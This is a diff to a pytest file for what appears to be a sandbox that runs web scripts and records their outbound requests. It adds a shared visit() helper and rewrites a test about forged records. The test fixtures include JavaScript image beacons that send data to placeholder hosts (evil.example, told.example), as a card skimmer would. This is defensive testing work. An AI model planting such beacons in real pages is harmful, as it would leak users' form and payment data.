@@ -10,6 +10,7 @@ import pytest
 from content.behaviour import observe
 from content.behaviour.engine import Cell
 from content.behaviour.pages import pages
+from content.behaviour.record import Record
 from content.behaviour.source import Source
 from content.behaviour.visiting import Visitor
 
@@ -64,13 +65,20 @@ def test_replaced_methods_of_the_language_hide_nothing() -> None:
     assert behaviour.proven
 
 
-def test_a_record_that_the_script_writes_is_no_proof() -> None:
+def visit(script: str) -> Record:
+    with Cell() as cell:
+        source = Source((script,), "", False, "/a.js")
+        visitor = Visitor(cell, source, time.monotonic() + 30, date(2026, 11, 26))
+        [record] = visitor.visit(pages()[0], {"text": "x", "expiry": "07/29"})
+        assert not cell.deaths
+        return record
+
+
+def test_a_record_that_the_script_writes_is_none() -> None:
     # It may say what it likes in what it sends: entries are told by their length, not by their text.
     entry = "5;4:exit5:image21:https://evil.example/0:0:"
-    forged = f"new Image().src = 'https://shop.example/' + '{entry}'"
-    behaviour = observe(forged.encode(), None, 20)
-    assert not behaviour.proven
-    assert "evil.example" not in behaviour.hosts
+    record = visit(f"new Image().src = 'https://shop.example/' + '{entry}'")
+    assert [exit_.url for exit_ in record.exits if exit_.at] == [f"https://shop.example/{entry}"]
 
 
 REACH = """
@@ -83,15 +91,8 @@ setTimeout(function () { new Image().src = 'https://told.example/?' + (found.joi
 
 
 def test_the_engine_reaches_nothing() -> None:
-    with Cell() as cell:
-        visitor = Visitor(
-            cell, Source((REACH,), "", False, "/a.js"), time.monotonic() + 30, date(2026, 11, 26)
-        )
-        [record] = visitor.visit(pages()[0], {"text": "x", "expiry": "07/29"})
-        assert [exit_.url for exit_ in record.exits if "told" in exit_.url] == [
-            "https://told.example/?nothing"
-        ]
-        assert not cell.deaths
+    record = visit(REACH)
+    assert [exit_.url for exit_ in record.exits if "told" in exit_.url] == ["https://told.example/?nothing"]
 
 
 def test_nothing_is_left_of_it() -> None:
